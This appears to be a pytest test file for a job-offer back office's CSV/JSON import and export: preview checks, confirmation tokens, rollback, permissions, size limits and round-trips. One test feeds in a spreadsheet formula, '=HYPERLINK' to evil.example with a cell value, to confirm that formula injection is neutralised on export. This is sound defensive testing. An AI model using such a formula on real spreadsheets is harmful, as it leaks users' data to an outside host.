"""Importing and exporting offers in the back office: checked and shown first, applied all or nothing, and every
bad file refused with a clear sentence."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, timedelta

import pytest
from sqlalchemy import func, select
from sqlalchemy.exc import IntegrityError

from kiosk.audit.models import AuditEntry
from kiosk.extensions import db
from kiosk.offers import writing
from kiosk.offers.models import Offer
from kiosk.offers.pending import PendingImport

FAR = date(2099, 1, 1)


def row(today, reference="NEW-1", **values) -> dict:
    return {"reference": reference, "kind": "job", "town": "Sarzana", "sector": "I", "contract": "seasonal",
            "hours": "part_time", "expires_on": (today + timedelta(days=30)).isoformat(),
            "apply_email": "lavoro@example.it", "title_it": f"Cameriere {reference}",
            "description_it": "<p>Servizio ai tavoli</p>"} | values


def csv_file(rows: list[dict], delimiter: str = ",", header: list[str] | None = None, bom: bool = False) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header or list(rows[0]), delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return ("\ufeff" if bom else "").encode() + out.getvalue().encode()


def upload(browser, content: bytes, filename: str = "offerte.csv", organisation: int | None = None):
    data = {"file": (io.BytesIO(content), filename)}
    if organisation is not None:
        data["organisation"] = str(organisation)
    return browser.post("/admin/imports/check", data=data, content_type="multipart/form-data")


def upload_raw(browser, content: bytes):
    """Upload a file as one prebuilt body: the test client would spool a large one to a temporary file."""
    boundary = "----infolavoro-test"
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
            f"Content-Type: text/csv\r\n\r\n").encode() + content + f"\r\n--{boundary}--\r\n".encode()
    return browser.post("/admin/imports/check", data=body,
                        content_type=f"multipart/form-data; boundary={boundary}")


def token_in(page: str) -> str | None:
    found = re.search(r'name="token" value="([^"]+)"', page)
    return found.group(1) if found else None


def offers() -> list[Offer]:
    db.session.expire_all()
    return list(db.session.scalars(select(Offer).order_by(Offer.id)))


@pytest.fixture
def elena(browser):
    return browser("elena")


def test_the_check_shows_each_row_and_changes_nothing(elena, people, make_offer, today):
    ours = make_offer(reference="OURS-1")
    theirs = make_offer(reference="THEIRS-1", organisation=people["other_organisation"])
    content = csv_file([row(today, "NEW-1"), row(today, "OURS-1", town="Lerici"), row(today, "THEIRS-1")])
    response = upload(elena, content)
    assert response.status_code == 200
    page = response.text
    for expected in ("Create", "Change", "Refused", "This reference belongs to another organisation's offer."):
        assert expected in page
    assert token_in(page) is None  # a refused row: nothing can be confirmed
    assert [(offer.reference, offer.town) for offer in offers()] == [(ours.reference, "La Spezia"),
                                                                     (theirs.reference, "La Spezia")]
    assert db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.action.startswith("offer."))) == 0


@pytest.mark.both_databases
def test_confirm_applies_the_checked_file_once(elena, people, make_offer, today):
    make_offer(reference="OURS-1")
    response = upload(elena, csv_file([row(today, "NEW-1"), row(today, "OURS-1", town="Lerici")]))
    token = token_in(response.text)
    assert token and len(offers()) == 1
    assert db.session.scalar(select(PendingImport.user_id)) is not None
    done = elena.post("/admin/imports/confirm", data={"token": token})
    assert done.status_code == 200 and "New offers: 1; changed: 1; unchanged: 0." in done.text
    saved = {offer.reference: offer for offer in offers()}
    assert saved["OURS-1"].town == "Lerici" and saved["OURS-1"].revision == 2
    assert saved["NEW-1"].organisation_id == people["organisation"].id and saved["NEW-1"].status == "published"
    assert db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.action == "offer.import")) == 1
    again = elena.post("/admin/imports/confirm", data={"token": token})
    assert again.status_code == 409 and "expired or was already applied" in again.text
    assert len(offers()) == 2


def test_only_the_person_who_checked_can_confirm(browser, elena, today):
    token = token_in(upload(elena, csv_file([row(today)])).text)
    assert browser("paolo").post("/admin/imports/confirm", data={"token": token}).status_code == 409
    assert browser("admin").post("/admin/imports/confirm", data={"token": token}).status_code == 409
    assert offers() == []


def test_a_confirmation_applies_nothing_when_the_offers_changed_since(elena, make_offer, today):
    token = token_in(upload(elena, csv_file([row(today, "NEW-1")])).text)
    make_offer(reference="NEW-1", town="Levanto")  # someone made it meanwhile: the row would now change it
    response = elena.post("/admin/imports/confirm", data={"token": token})
    assert "The offers changed since the check" in response.text
    assert [offer.town for offer in offers()] == ["Levanto"]
    assert token_in(response.text) not in (None, token)


@pytest.mark.both_databases
def test_a_row_failing_while_applied_rolls_every_row_back(elena, monkeypatch, today):
    token = token_in(upload(elena, csv_file([row(today, "NEW-1"), row(today, "NEW-2")])).text)
    real, calls = writing.create_offer, []

    def failing(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise IntegrityError("insert", {}, Exception("disk full"))
        return real(*args, **kwargs)

    monkeypatch.setattr(writing, "create_offer", failing)
    response = elena.post("/admin/imports/confirm", data={"token": token})
    assert response.status_code == 409 and "Nothing was imported" in response.text
    assert offers() == [] and len(calls) == 2


def test_an_editor_imports_into_their_own_organisation_only(elena, people, today):
    token = token_in(upload(elena, csv_file([row(today)]), organisation=people["other_organisation"].id).text)
    elena.post("/admin/imports/confirm", data={"token": token})
    assert [offer.organisation_id for offer in offers()] == [people["organisation"].id]


def test_an_admin_chooses_the_organisation(browser, people, today):
    admin = browser("admin")
    assert upload(admin, csv_file([row(today)])).status_code == 422  # which organisation?
    response = upload(admin, csv_file([row(today)]), organisation=people["other_organisation"].id)
    admin.post("/admin/imports/confirm", data={"token": token_in(response.text)})
    assert [offer.organisation_id for offer in offers()] == [people["other_organisation"].id]


def test_italian_excel_is_read_with_its_bom_semicolons_and_dates(elena, today):
    day = today + timedelta(days=40)
    content = csv_file([row(today, expires_on=day.strftime("%d/%m/%Y"), title_it="Città; perché")], delimiter=";",
                       bom=True)
    response = upload(elena, content)
    elena.post("/admin/imports/confirm", data={"token": token_in(response.text)})
    (offer,) = offers()
    assert offer.expires_on == day and offer.text("it").title == "Città; perché"


@pytest.mark.parametrize(("content", "message"), [
    (csv_file([row(FAR, title_it="Perché così")]).decode().encode("cp1252"), "The file is not in UTF-8."),
    (csv_file([{"reference": "A", "kind": "job", "title_it": "x"}]), "required columns are missing: town, sector, "
                                                                      "contract, hours, expires_on"),
    (csv_file([{"reference": "A", "kind": "job", "titolo": "x"}], header=["reference", "kind", "titolo"]),
     "missing"),
    (b"\x00\x01\x02", "not a CSV file that can be read"),
    (b"   ", "The file is empty."),
    (b'{"@type": "JobPosting", ', "The file is not valid JSON."),
    (b"[" * 100_000 + b"]" * 100_000, "The file is not valid JSON."),
    (b"[]", "The file has no offers."),
    (csv_file([row(FAR)]).splitlines()[0] + b"\r\n", "The file has no offers."),
])
def test_a_file_that_cannot_be_read_is_refused_clearly(elena, content, message):
    response = upload(elena, content, filename="offerte.json" if content.startswith((b"{", b"[")) else "offerte.csv")
    assert response.status_code == 422
    assert message in response.text.replace("&#39;", "'")
    assert offers() == []


def test_a_closing_date_in_the_past_is_refused(elena, today):
    response = upload(elena, csv_file([row(today, expires_on=(today - timedelta(days=1)).isoformat())]))
    assert "The closing date is already past." in response.text and token_in(response.text) is None


def test_a_reference_twice_in_the_file_refuses_both_rows(elena, today):
    response = upload(elena, csv_file([row(today, "SAME"), row(today, "SAME"), row(today, "OTHER")]))
    assert response.text.count("This reference is on more than one row of the file.") == 2
    assert token_in(response.text) is None


def test_every_problem_of_a_row_is_listed_in_the_users_language(browser, people, today):
    paolo = browser("paolo")
    paolo.get("/admin/imports?lang=it")
    response = upload(paolo, csv_file([row(today, kind="pirata", town="", apply_email="nobody")]))
    page = response.text
    assert page.count("<li><code") >= 3
    assert "Scegli uno dei valori indicati" in page or "valori" in page


def test_a_file_over_2_mb_gets_a_sentence_not_a_crash(app, elena, today):
    app.config["WTF_CSRF_ENABLED"] = True  # the CSRF check reads the form first: it must not break on a big file
    five_mb = csv_file([row(today)]) + b"x" * (5 * 1024 * 1024)
    response = upload_raw(elena, five_mb)
    assert response.status_code == 413
    assert "The file is larger than 2 MB" in response.text and "<form" in response.text
    app.config["WTF_CSRF_ENABLED"] = False
    almost = csv_file([row(today)]) + b"," * (bulk_limit() + 10)
    response = upload_raw(elena, almost)
    assert response.status_code == 422 and "The file is larger than 2 MB" in response.text


def bulk_limit() -> int:
    from kiosk.offers.bulk import MAX_BYTES

    return MAX_BYTES


def test_more_than_2000_rows_are_refused(elena, today):
    rows = [row(today, f"R-{number}") for number in range(2001)]
    response = upload(elena, csv_file(rows))
    assert response.status_code == 422 and "at most 2000 can be imported" in response.text.replace(",", "")
    response.close()


def test_a_formula_is_kept_as_text_and_neutralised_on_export(elena, today):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Clicca")'
    response = upload(elena, csv_file([row(today, title_it=formula, apply_email="lavoro@example.it")]))
    elena.post("/admin/imports/confirm", data={"token": token_in(response.text)})
    (offer,) = offers()
    assert offer.text("it").title == formula  # text, shown as text, never evaluated
    exported = elena.get("/admin/imports/export?format=csv-comma").data.decode("utf-8-sig")
    cells = [cell for record in csv.reader(io.StringIO(exported)) for cell in record]
    assert "'" + formula in cells and formula not in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.both_databases
def test_an_export_imports_back_as_no_change(elena, people, make_offer, today):
    make_offer(reference="A-1", apply_phone="+39 0187 123456", other_languages=[{"lang": "en", "level": "B1"}],
               texts={"it": {"title": "Saldatore", "description": "<p>Saldatura <strong>TIG</strong></p>",
                             "how_to_apply": "-"},
                      "uk": {"title": "Зварник", "summary": "=1+1"}})
    make_offer(reference="A-2", employer=None, expires_on=today - timedelta(days=3))  # expired: still round-trips
    make_offer(reference="B-1", organisation=people["other_organisation"])
    for kind, filename in (("csv", "offerte.csv"), ("csv-comma", "offerte.csv"), ("json", "offerte.json")):
        exported = elena.get(f"/admin/imports/export?format={kind}")
        assert exported.status_code == 200 and "attachment" in exported.headers["Content-Disposition"]
        assert b"B-1" not in exported.data  # another organisation's offer is not the editor's to export
        response = upload(elena, exported.data, filename=filename)
        assert response.text.count(">No change<") == 2, kind
        assert token_in(response.text)


def test_an_admin_exports_every_organisation(browser, people, make_offer):
    make_offer(reference="A-1")
    make_offer(reference="B-1", organisation=people["other_organisation"])
    admin = browser("admin")
    everything = admin.get("/admin/imports/export?format=json").get_json(force=True)
    assert [item["item"]["identifier"]["value"] for item in everything["itemListElement"]] == ["A-1", "B-1"]
    one = admin.get(f"/admin/imports/export?format=csv&organisation={people['other_organisation'].id}").data
    assert b"B-1" in one and b"A-1" not in one


@pytest.mark.parametrize("shape", ["one", "list", "itemlist", "graph"])
def test_job_postings_are_imported_in_every_shape(elena, today, shape):
    postings = [{"@type": "JobPosting", "title": f"Magazziniere {number}", "industry": "H",
                 "validThrough": f"{today + timedelta(days=20)}T18:00:00+01:00", "employmentType": "PART_TIME",
                 "hiringOrganization": {"name": "Porto Logistica"}, "identifier": f"PL-{number}",
                 "jobLocation": [{"address": {"addressLocality": "La Spezia"}}], "inLanguage": "it",
                 "url": "https://porto.example/lavora"} for number in (1, 2)]
    document = {"one": postings[0], "list": postings,
                "itemlist": {"@type": "ItemList", "itemListElement": [
                    {"@type": "ListItem", "position": 1, "item": postings[0]}, postings[1]]},
                "graph": {"@context": "https://schema.org", "@graph": postings}}[shape]
    response = upload(elena, json.dumps(document).encode(), filename="posting.json")
    elena.post("/admin/imports/confirm", data={"token": token_in(response.text)})
    saved = offers()
    assert len(saved) == (1 if shape == "one" else 2)
    assert (saved[0].hours, saved[0].contract, saved[0].apply_url) == ("part_time", "permanent",
                                                                        "https://porto.example/lavora")


def test_the_template_imports_as_it_is(elena):
    template = elena.get("/admin/imports/template.csv")
    assert template.status_code == 200 and template.data.startswith("\ufeff".encode())
    response = upload(elena, template.data)
    assert ">Create<" in response.text and token_in(response.text)


def test_receptionists_have_no_import(browser):
    giulia = browser("giulia")
    assert giulia.get("/admin/imports").status_code == 403
    assert giulia.get("/admin/imports/export").status_code == 403
